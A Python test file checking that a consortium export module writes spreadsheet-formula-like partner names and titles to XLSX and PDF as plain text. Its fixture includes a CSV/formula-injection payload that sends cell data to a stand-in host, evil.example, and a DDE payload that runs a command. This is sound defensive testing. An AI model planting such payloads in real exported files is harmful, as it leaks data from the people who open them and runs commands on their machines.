"""A partner's name or an idea's title that starts like a spreadsheet formula is exported as
text: the consortium exports neutralise it as the member exports do (one shared helper)."""

import io
from types import SimpleNamespace

import fpdf
from openpyxl import load_workbook

from klaster.consortia.exports import consortium_pdf, consortium_xlsx
from klaster.consortia.selectors import ConsortiumExport, ExportRow

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'


def _export() -> ConsortiumExport:
    idea = SimpleNamespace(title="@SUM(1+1)", call=None, owner=SimpleNamespace(name="+48 Alfa"))
    row = ExportRow(
        name=EVIL,
        pic="999489650",
        country="PL",
        kind="PRC",
        sme="yes",
        role="-2+3",
        status="invited",
        reasons="=cmd|' /C calc'!A0",
    )
    return ConsortiumExport(idea=idea, rule_set_title="RIA", eligible=True, missing=[], rows=[row])


def test_consortium_xlsx_keeps_formula_like_names_as_text():
    sheet = load_workbook(io.BytesIO(consortium_xlsx(_export()))).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    partner = next(cell for cell in cells if cell.value == EVIL)

    assert partner.data_type == "s"
    assert sheet["A1"].value == "@SUM(1+1)" and sheet["A1"].data_type == "s"
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]


def test_consortium_pdf_neutralises_formula_like_text(monkeypatch):
    written = []
    multi_cell = fpdf.FPDF.multi_cell

    def recording(self, w, h, text="", *args, **kwargs):
        written.append(text)
        return multi_cell(self, w, h, text, *args, **kwargs)

    monkeypatch.setattr(fpdf.FPDF, "multi_cell", recording)

    assert consortium_pdf(_export()).startswith(b"%PDF")
    assert "'@SUM(1+1)" in written
    assert not [text for text in written if text.startswith(("=", "+", "-", "@"))]
